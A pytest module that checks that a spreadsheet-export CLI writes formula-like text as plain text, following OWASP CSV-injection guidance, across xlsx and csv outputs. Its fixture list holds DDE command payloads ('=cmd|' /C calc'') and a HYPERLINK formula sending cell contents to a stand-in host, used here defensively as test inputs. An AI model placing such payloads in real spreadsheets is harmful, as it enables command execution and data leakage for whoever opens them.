"""Formula injection: text that starts like a formula is written as text, never as a formula.

PRODUCT §10 ("`=cmd|...` must be written as text, not a formula"). Values starting with `=`,
`+`, `-`, `@`, tab or carriage return — in passthrough input columns, in text outputs built from
user text, in literal outputs and in parameter text — are checked in every writer:

* `tier eval -o x.xlsx`: string cells (no `<f>` element anywhere in the sheet XML), the text
  exactly as given;
* `tier eval -o x.csv` (whole and chunked): OWASP CSV-injection guidance — a leading `'` so a
  spreadsheet shows text; numbers like `-5` stay numbers;
* `tier fill`: inline-string cells, no `<f>`, text exactly as given.
"""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from engine.io import neutralise_formula

ROOT = Path(__file__).resolve().parent.parent
ECHO = Path(__file__).parent / "corpus" / "echo.yaml"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

RISKY = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n",
    "-1 + 1",
    "+ 5",
    "-",
    "=",
]
SAFE_NUMBERS = ["-5", "-0.3", "+7", "-1,000.50"]  # data, not formulas: unchanged in CSV too
PLAIN = ["甲公司", "a=b", " =1+1", "＝1+1", "'=already quoted"]


def tier(*args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("TIERBOOK_")}
    return subprocess.run([sys.executable, "-m", "engine.cli", *args], check=False, capture_output=True, text=True, cwd=ROOT,
                          env=env, timeout=300)


def labels() -> list[str]:
    return RISKY + SAFE_NUMBERS + PLAIN


def write_input(path: Path) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["评估日期", "标签"])
    writer.writerows([["2024-06-30", label] for label in labels()])
    path.write_bytes(buffer.getvalue().encode("utf-8"))


def expected_csv(text: str) -> str:
    """OWASP: a cell starting with = + - @ TAB CR gets a leading quote, unless it is a plain number."""
    if text in SAFE_NUMBERS:
        return text
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.mark.parametrize("text", RISKY)
def test_neutralise_risky(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", SAFE_NUMBERS + PLAIN + [""])
def test_neutralise_leaves_data(text: str) -> None:
    assert neutralise_formula(text) == text


# --------------------------------------------------------------------------- xlsx helpers
def sheet_cells(path: Path, sheet_index: int = 0) -> dict[str, tuple[str | None, bool, str | None]]:
    """A1 ref → (t attribute, has a <f> element, text) for every cell of one worksheet."""
    with zipfile.ZipFile(path) as archive:
        names = sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
        shared: list[str] = []
        if "xl/sharedStrings.xml" in archive.namelist():
            root = ET.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root.findall("m:si", NS)]
        root = ET.fromstring(archive.read(names[sheet_index]))
    cells = {}
    for cell in root.iter(f"{{{NS['m']}}}c"):
        kind = cell.get("t")
        value = cell.find("m:v", NS)
        if kind == "s" and value is not None:
            text = shared[int(value.text)]
        elif kind == "inlineStr":
            text = "".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t"))
        else:
            text = value.text if value is not None else None
        cells[cell.get("r")] = (kind, cell.find("m:f", NS) is not None, text)
    return cells


def no_formula_anywhere(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ET.fromstring(archive.read(name))
                assert root.find(".//m:f", NS) is None, f"a formula in {name}"


def column_texts(cells: dict[str, tuple[str | None, bool, str | None]], header: str) -> list[str | None]:
    col = next(ref.rstrip("0123456789") for ref, (_k, _f, text) in cells.items()
               if ref.endswith("1") and ref.rstrip("0123456789") + "1" == ref and text == header)
    rows = sorted(int(ref[len(col):]) for ref in cells if ref.rstrip("0123456789") == col and ref[len(col):] != "1")
    return [cells[f"{col}{r}"][2] for r in rows]


def _unescape(text: str | None) -> str | None:
    """xlsx writers escape CR as `_x000D_`; a reader shows it back as CR."""
    return None if text is None else text.replace("_x000D_", "\r")


# --------------------------------------------------------------------------- tier eval
def test_eval_xlsx_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.xlsx"
    write_input(source)
    run = tier("eval", str(ECHO), str(source), "-o", str(target), "--param", "prefix=@cmd|x")
    assert run.returncode == 0, run.stderr
    no_formula_anywhere(target)
    cells = sheet_cells(target)
    for header, expected in (("标签", labels()), ("echo", labels()),
                             ("with_prefix", ["@cmd|x" + label for label in labels()])):
        got = [_unescape(t) for t in column_texts(cells, header)]
        assert got == expected, header  # exactly as given: no quote, nothing trimmed
    kinds = {kind for ref, (kind, _f, text) in cells.items() if text in RISKY}
    assert kinds <= {"s", "inlineStr", "str"}
    assert set(column_texts(cells, "fixed")) == {"=SUM(1,2)"} and set(column_texts(cells, "grade")) == {"@A"}
    meta = sheet_cells(target, sheet_index=1)  # 运行信息: the changed parameter is text too
    assert any(text == "@cmd|x" and not has_f for _kind, has_f, text in meta.values())


@pytest.mark.parametrize("chunked", [False, True])
def test_eval_csv_neutralised_per_owasp(tmp_path: Path, chunked: bool) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    write_input(source)
    extra = ["--chunk-rows", "3"] if chunked else []
    run = tier("eval", str(ECHO), str(source), "-o", str(target), *extra)
    assert run.returncode == 0, run.stderr
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
    assert [r["标签"] for r in rows] == [expected_csv(label) for label in labels()]
    assert [r["echo"] for r in rows] == [expected_csv(label) for label in labels()]
    assert [r["with_prefix"] for r in rows] == ["'=1+2" + label for label in labels()]
    assert {r["fixed"] for r in rows} == {"'=SUM(1,2)"} and {r["grade"] for r in rows} == {"'@A"}


# --------------------------------------------------------------------------- tier fill
def _fill_book(tmp_path: Path) -> Path:
    import xlsxwriter

    book_path = tmp_path / "book.xlsx"
    book = xlsxwriter.Workbook(str(book_path), {"strings_to_formulas": False})
    sheet = book.add_worksheet("数据")
    sheet.write_row(0, 0, ["评估日期", "标签"])
    for row, label in enumerate(labels(), start=1):
        sheet.write_string(row, 0, "2024-06-30")
        sheet.write_string(row, 1, label)
    book.close()
    run = tier("fill", str(book_path), "-r", str(ECHO))
    assert run.returncode == 0, run.stderr
    return book_path


def test_fill_writes_strings_never_formulas(tmp_path: Path) -> None:
    book_path = _fill_book(tmp_path)
    no_formula_anywhere(book_path)
    cells = sheet_cells(book_path)
    assert set(column_texts(cells, "固定文本")) == {"=SUM(1,2)"}
    assert set(column_texts(cells, "等级")) == {"@A"}
    echoed = column_texts(cells, "回显")
    assert len(echoed) == len(labels())
    risky = [(ref, kind) for ref, (kind, _f, text) in cells.items() if text and text.lstrip("\r\n\t")[:1] in "=+-@"
             and not ref.startswith(("A", "B"))]
    assert risky and all(kind in ("s", "inlineStr") for _ref, kind in risky)


def test_fill_keeps_text_exactly(tmp_path: Path) -> None:
    """The echoed text must come back exactly (a bare CR in XML text is read back as LF)."""
    book_path = _fill_book(tmp_path)
    import openpyxl

    sheet = openpyxl.load_workbook(book_path)["数据"]
    header = [c.value for c in sheet[1]]
    column = header.index("回显") + 1
    assert [sheet.cell(row, column).value for row in range(2, len(labels()) + 2)] == labels()
